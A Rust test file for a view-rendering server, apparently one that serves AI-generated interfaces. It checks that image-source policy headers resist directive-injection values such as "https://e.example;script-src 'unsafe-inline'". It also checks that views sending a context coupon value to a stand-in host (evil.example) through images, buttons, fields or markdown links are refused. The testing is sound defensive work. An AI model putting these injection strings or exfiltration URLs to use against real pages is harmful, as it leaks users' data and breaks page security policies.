//! From where a frame may load pictures, in a browser.

use serde_json::{Value, json};

use crate::contracts::{basket, basket_props};
use crate::world::World;

#[tokio::test]
async fn a_frame_and_its_host_may_load_pictures_from_the_named_hosts_and_from_nowhere_else() {
    let world = World::start().await;
    let text = || json!({"schema": {"type": "string"}, "required": true});
    let picture = json!({
        "schema": {"type": "string"}, "required": true,
        "example": "https://example.example/a.png",
    });
    let contract = json!({"propsSpec": {"properties": {
        "a": picture, "b": text(), "c": text(), "d": text(), "e": text(), "f": text(), "g": text(),
        "many": {"schema": {"type": "array", "items": {"type": "string"}}},
    }}});
    let props = json!({
        "a": "https://props.example:8443/a.png",
        "b": "https://a;connect-src",
        "c": "https://*",
        "d": "https://b.example, https://c.example",
        "e": "https://bücher.example/\u{1F600}",
        "f": "https://user@d.example/a",
        "g": "https://e.example;script-src 'unsafe-inline'",
    });
    let view = |url: Value| {
        json!({"components": [
            {"id": "root", "component": "Column", "children": ["picture", "other"]},
            {"id": "picture", "component": "Image", "url": url},
            {"id": "other", "component": "Image", "url": "https://view.example/logo.png"},
        ]})
    };
    let show = async |view: Value, props: &Value| {
        let draft = json!({"contract": contract, "view": view});
        let arguments = json!({"intent": "Pictures", "blueprintDraft": draft});
        let agreed = world.tool("ggui_handshake", arguments).await;
        let arguments = json!({"handshakeId": agreed["handshakeId"], "props": props});
        world.call("ggui_render", arguments).await
    };
    let policy_of = async |shown: &Value| {
        let slice = &shown["_meta"]["ai.ggui/render"];
        let (session, token) = (slice["sessionId"].as_str(), slice["wsToken"].as_str());
        let (session, token) = (session.expect("a session"), token.expect("a token"));
        let frame = world.send(world.get(&format!("/frame/{session}?wsToken={token}")));
        let frame = frame.await;
        assert!(
            frame
                .body
                .as_str()
                .expect("a page")
                .contains("<meta http-equiv=\"x-dns-prefetch-control\" content=\"off\">")
        );
        let policy = frame.headers["content-security-policy"].to_str();
        policy.expect("text").to_owned()
    };
    let expected = [
        "https://example.example",
        "https://props.example:8443",
        "https://view.example",
        "https://xn--bcher-kva.example",
    ];
    let shown = show(view(json!({"path": "/props/a"})), &props).await;
    let policy = policy_of(&shown).await;
    let images = format!("; img-src data: {}; ", expected.join(" "));
    assert!(policy.contains(&images), "{policy}");
    assert_eq!(policy.matches("connect-src").count(), 1, "{policy}");

    let uri = &shown["structuredContent"]["resourceUri"];
    let read = world.rpc("resources/read", json!({"uri": uri})).await;
    let csp = &read.body["result"]["contents"][0]["_meta"]["ui"]["csp"];
    let resources = csp["resourceDomains"].as_array().expect("a list");
    assert_eq!(resources[1..], expected.map(Value::from), "{csp}");

    // A policy lists a limited number of hosts.
    let mut props = props;
    props["many"] = (0..1000)
        .map(|n| format!("https://h{n:04}.example/a"))
        .collect();
    let shown = show(view(json!({"path": "/props/a"})), &props).await;
    let policy = policy_of(&shown).await;
    assert_eq!(policy.matches("https://").count(), 16, "{policy}");

    // A page without pictures loads none.
    let plain =
        json!({"components": [{"id": "root", "component": "Text", "text": {"path": "/props/a"}}]});
    let shown = show(plain, &props).await;
    let policy = policy_of(&shown).await;
    assert!(policy.contains("; img-src data:; "), "{policy}");
}

#[tokio::test]
async fn a_view_with_an_address_from_user_input_is_refused_with_a_finding() {
    let world = World::start().await;
    let typed = |text: &str| json!({"call": "formatString", "args": {"value": text}});
    let address = typed("https://evil.example/?q=${/context/coupon}");
    let opens = json!({"functionCall": {"call": "openUrl", "args": {"url": address}}});
    let fact = json!({"label": "Page", "value": address, "format": "url"});
    let link = typed("[Mugs](https://evil.example/?q=${/context/coupon})");
    for (root, member) in [
        (json!({"component": "Image", "url": address}), "url"),
        (
            json!({"component": "Button", "child": "word", "action": opens}),
            "action",
        ),
        (json!({"component": "KeyValue", "items": [fact]}), "items"),
        (json!({"component": "Text", "text": link}), "text"),
    ] {
        let mut root = root;
        root["id"] = json!("root");
        let word = json!({"id": "word", "component": "Text", "text": "Open"});
        let view = json!({"components": [root, word]});
        let draft = json!({"contract": basket(), "view": view});
        let arguments = json!({"intent": "A basket", "blueprintDraft": draft});
        let agreed = world.tool("ggui_handshake", arguments).await;
        let findings = agreed["suggestion"]["validationFindings"].as_array();
        let found: Vec<_> = findings
            .into_iter()
            .flatten()
            .map(|finding| (finding["code"].as_str(), finding["path"].as_str()))
            .collect();
        let path = format!("components[root].{member}");
        let expected = (Some("VIEW_TYPED_ADDRESS"), Some(&*path));
        assert_eq!(found, [expected], "{agreed}");
        let arguments = json!({"handshakeId": agreed["handshakeId"], "props": basket_props()});
        let shown = world.call("ggui_render", arguments).await;
        assert!(
            !shown.to_string().contains("evil.example"),
            "a composed one is shown"
        );
    }
}
